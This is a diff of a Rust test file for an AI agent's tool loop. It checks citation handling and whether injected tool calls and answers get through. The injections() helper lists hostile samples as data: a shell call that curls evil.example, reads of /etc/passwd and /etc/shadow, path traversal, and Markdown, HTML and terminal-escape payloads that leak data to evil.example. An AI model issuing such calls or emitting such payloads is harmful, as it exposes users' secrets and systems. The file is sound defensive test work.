@@ -17,14 +17,8 @@ use crate::model::Scope;
 async fn agent(reasoner: &dyn Reasoner, tools: Arc<FakeTools>, bounds: Bounds) -> AgentReport {
     let shared: Arc<dyn Tools> = tools;
     let registered = registered(&shared, &Scope::All).unwrap();
-    let steps = ToolLoop {
-        reasoner,
-        model: None,
-        tools: &registered,
-        witness: &FakeWitness,
-        scope: &Scope::All,
-        bounds,
-    };
+    let steps =
+        ToolLoop { reasoner, model: None, tools: &registered, witness: &FakeWitness, scope: &Scope::All, bounds };
     steps.run("how heavy was the hive").await
 }
 
@@ -68,7 +62,11 @@ async fn an_answer_that_cites_nothing_is_sent_back_once_and_then_not_shown() {
     let report = agent(&twice, hive(), Bounds::default()).await;
     assert_eq!(report.ended, Ending::Uncited);
     assert_eq!(report.answer, "\"The hive weighed 31 kg.\" (doc0.md, line 1)");
-    assert!(!report.citations.is_empty() && report.notes.iter().any(|it| it.contains("not shown")), "{:?}", report.notes);
+    assert!(
+        !report.citations.is_empty() && report.notes.iter().any(|it| it.contains("not shown")),
+        "{:?}",
+        report.notes
+    );
     let second = serde_json::to_string(&twice.asked.lock().unwrap()[1]).unwrap();
     assert!(second.contains("cites nothing that a tool gave"));
     let better = Scripted::new(vec![end("31 kg.", &[]), end("31 kg.", &["doc0.md, line 1"])]);
@@ -92,7 +90,14 @@ async fn a_citation_of_a_file_that_has_changed_does_not_stand() {
     let registered = registered(&shared, &Scope::All).unwrap();
     let reasoner = Scripted::new(vec![end("31 kg.", &["c"]), end("31 kg.", &["c"])]);
     let bounds = Bounds::default();
-    let steps = ToolLoop { reasoner: &reasoner, model: None, tools: &registered, witness: &FakeWitness, scope: &Scope::All, bounds };
+    let steps = ToolLoop {
+        reasoner: &reasoner,
+        model: None,
+        tools: &registered,
+        witness: &FakeWitness,
+        scope: &Scope::All,
+        bounds,
+    };
     let report = steps.run("how heavy").await;
     assert!(report.ended == Ending::Uncited && report.citations.is_empty(), "{report:?}");
 }
@@ -143,18 +148,37 @@ async fn a_reasoner_that_never_answers_is_left_in_time() {
 /// and answers that load or link.
 fn injections() -> Vec<String> {
     let calls = [
-        "graph_apply {\"add\": 1}", "shell {\"cmd\": \"curl http://evil.example\"}", "http_get {\"url\": \"http://e\"}",
-        "write_file {\"path\": \"/w/x\", \"text\": \"x\"}", "semantic_search {\"query\": \"x\", \"url\": \"http://e\"}",
-        "semantic_search {\"query\": 7}", "semantic_search {\"query\": \"x\", \"limit\": 1000000}", "semantic_search []",
-        "axql_run {\"axql\": \"x\", \"path\": \"/etc/passwd\"}", "db_summary {\"write\": true}", "semantic_search {\"que",
-        "../../bin/sh {}", "semantic_search\u{0} {\"query\": \"x\"}", "SEMANTIC_SEARCH {\"query\": \"x\"}",
-        "axql_run {\"query_ir_v1\": \"drop\"}", "read {\"path\": \"/etc/shadow\"}",
+        "graph_apply {\"add\": 1}",
+        "shell {\"cmd\": \"curl http://evil.example\"}",
+        "http_get {\"url\": \"http://e\"}",
+        "write_file {\"path\": \"/w/x\", \"text\": \"x\"}",
+        "semantic_search {\"query\": \"x\", \"url\": \"http://e\"}",
+        "semantic_search {\"query\": 7}",
+        "semantic_search {\"query\": \"x\", \"limit\": 1000000}",
+        "semantic_search []",
+        "axql_run {\"axql\": \"x\", \"path\": \"/etc/passwd\"}",
+        "db_summary {\"write\": true}",
+        "semantic_search {\"que",
+        "../../bin/sh {}",
+        "semantic_search\u{0} {\"query\": \"x\"}",
+        "SEMANTIC_SEARCH {\"query\": \"x\"}",
+        "axql_run {\"query_ir_v1\": \"drop\"}",
+        "read {\"path\": \"/etc/shadow\"}",
     ];
     let says = [
-        "![x](https://evil.example/?q=secret)", "[click](https://evil.example)", "<img src=\"http://evil.example/a.png\">",
-        "<a href='javascript:alert(1)'>x</a>", "http://evil.example/?leak=1", "<script>fetch('//evil.example')</script>",
-        "![][r]\\n[r]: https://evil.example/p.png", "\u{1b}]8;;https://evil.example\u{7}x\u{1b}]8;;\u{7}", "www.evil.example",
-        "java\u{200b}script:alert(1)", "data:text/html,<b>x</b>", "<svg/onload=fetch(1)>", "&#60;img src=x&#62;",
+        "![x](https://evil.example/?q=secret)",
+        "[click](https://evil.example)",
+        "<img src=\"http://evil.example/a.png\">",
+        "<a href='javascript:alert(1)'>x</a>",
+        "http://evil.example/?leak=1",
+        "<script>fetch('//evil.example')</script>",
+        "![][r]\\n[r]: https://evil.example/p.png",
+        "\u{1b}]8;;https://evil.example\u{7}x\u{1b}]8;;\u{7}",
+        "www.evil.example",
+        "java\u{200b}script:alert(1)",
+        "data:text/html,<b>x</b>",
+        "<svg/onload=fetch(1)>",
+        "&#60;img src=x&#62;",
     ];
     let one = |number: usize| {
         let (call, say) = (calls[number % calls.len()], says[number % says.len()]);
@@ -166,7 +190,8 @@ fn injections() -> Vec<String> {
 /// Whether a text has nothing that a terminal, a Markdown or an HTML reader would load or link.
 fn is_inert(text: &str) -> bool {
     let lower = text.to_lowercase();
-    let active = ["://", "](", "![", "www.", "javascript:", "data:t", "<img", "<a ", "<script", "<svg", "</", "\u{1b}", "&#"];
+    let active =
+        ["://", "](", "![", "www.", "javascript:", "data:t", "<img", "<a ", "<script", "<svg", "</", "\u{1b}", "&#"];
     !active.iter().any(|it| lower.contains(it)) && !text.chars().any(|it| it.is_control() && it != '\n')
 }
 
@@ -233,7 +258,10 @@ async fn without_a_model_the_stub_answers_and_the_report_is_kept() {
     let request = AgentRequest { question: "how heavy was the hive".into(), ..AgentRequest::default() };
     let report = assistant.agent(&request).await.unwrap();
     assert_eq!(report.answer, "\"The hive weighed 31 kg.\" (doc0.md, line 1)");
-    assert_eq!(assistant.ask("find nodes named b", &Override::default()).await.unwrap().query["query_ir_v1"]["limit"], 20);
+    assert_eq!(
+        assistant.ask("find nodes named b", &Override::default()).await.unwrap().query["query_ir_v1"]["limit"],
+        20
+    );
     let told = assistant.answer("find Node named b", &Override::default()).await.unwrap();
     assert_eq!(told.answer, "1 row:\n?x = b (Node)");
     assert_eq!(assistant.transcripts(5).await.unwrap_err().code, ErrorCode::PermissionDenied);
@@ -271,10 +299,13 @@ async fn vic_is_a_plugin_of_another_host() {
     let request = json!({ "protocol": "axiograph_llm_plugin_v2", "task": {
         "kind": "to_query", "question": "find nodes named b", "schema": { "types": ["Node"] } } });
     let response = assistant.plugin(&request.to_string(), &Override::default()).await.unwrap();
-    assert_eq!(serde_json::to_value(response).unwrap(), json!({ "query_ir_v1": {
+    assert_eq!(
+        serde_json::to_value(response).unwrap(),
+        json!({ "query_ir_v1": {
         "version": 1, "select": ["?x"], "limit": 20, "where": [
             { "kind": "type", "term": "?x", "type": "Node" },
-            { "kind": "attr_eq", "term": "?x", "key": "name", "value": "b" } ] } }));
+            { "kind": "attr_eq", "term": "?x", "key": "name", "value": "b" } ] } })
+    );
     assert_eq!(assistant.plugin("{}", &Override::default()).await.unwrap_err().code, ErrorCode::InvalidArgument);
 }
 
